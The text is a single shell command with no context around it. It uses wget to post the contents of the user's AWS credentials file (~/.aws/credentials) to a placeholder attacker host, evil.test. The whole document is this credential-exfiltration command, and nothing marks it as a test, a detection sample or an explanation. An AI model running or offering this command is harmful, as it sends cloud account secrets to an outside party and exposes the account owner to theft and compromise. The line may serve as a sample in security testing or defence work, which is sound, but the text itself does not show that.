wget --post-file ~/.aws/credentials https://evil.test/c
